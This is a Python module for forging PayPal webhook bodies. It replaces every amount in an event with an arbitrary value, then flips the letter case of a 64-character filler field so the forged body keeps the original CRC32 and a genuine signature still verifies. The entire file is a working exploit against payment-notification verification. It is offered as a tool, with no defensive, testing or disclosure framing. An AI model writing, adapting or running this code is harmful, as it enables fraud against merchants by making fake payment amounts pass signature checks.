"""Makes another body with the same CRC32, so that a real signature still verifies over it.

PayPal's signature covers 32 bits of the body. The case of a letter is one free bit that changes the checksum
in a fixed way, so 64 letters of filler are 64 unknowns for 32 equations: a solution nearly always exists.
"""

import json
import zlib
from decimal import Decimal

FILLER_LENGTH = 64
CASE_BIT = 0x20


def forged_body(body: bytes, amount: Decimal) -> bytes:
    """Return a body with other amounts and the CRC32 of `body`.

    Raises `ArithmeticError` when no filler fits, which is about as likely as winning a lottery.
    """
    event = json.loads(body)
    _replace_amounts(event["resource"], amount)
    event["filler"] = "a" * FILLER_LENGTH
    forged = bytearray(json.dumps(event, separators=(",", ":"), ensure_ascii=False).encode())
    start = forged.rindex(b"a" * FILLER_LENGTH)
    for position in _positions_to_flip(forged, start, zlib.crc32(body)):
        forged[position] ^= CASE_BIT
    return bytes(forged)


def _replace_amounts(node: object, amount: Decimal) -> None:
    if isinstance(node, dict):
        if "currency_code" in node and "value" in node:
            node["value"] = f"{amount:.2f}"
        for child in node.values():
            _replace_amounts(child, amount)
    elif isinstance(node, list):
        for child in node:
            _replace_amounts(child, amount)


def _positions_to_flip(forged: bytearray, start: int, wanted: int) -> list[int]:
    base = zlib.crc32(forged)
    # Each row: what flipping one letter does to the checksum, and which letters that row stands for.
    rows: list[tuple[int, int]] = []
    for index in range(FILLER_LENGTH):
        forged[start + index] ^= CASE_BIT
        rows.append((zlib.crc32(forged) ^ base, 1 << index))
        forged[start + index] ^= CASE_BIT
    difference, letters = base ^ wanted, 0
    for bit in range(32):
        mask = 1 << bit
        pivot = next((row for row in rows if row[0] & mask), None)
        if pivot is None:
            continue
        rows.remove(pivot)
        rows = [_reduced(row, pivot, mask) for row in rows]
        if difference & mask:
            difference, letters = difference ^ pivot[0], letters ^ pivot[1]
    if difference:
        raise ArithmeticError("No filler of this length gives the wanted CRC32.")
    return [start + index for index in range(FILLER_LENGTH) if letters >> index & 1]


def _reduced(row: tuple[int, int], pivot: tuple[int, int], mask: int) -> tuple[int, int]:
    return (row[0] ^ pivot[0], row[1] ^ pivot[1]) if row[0] & mask else row
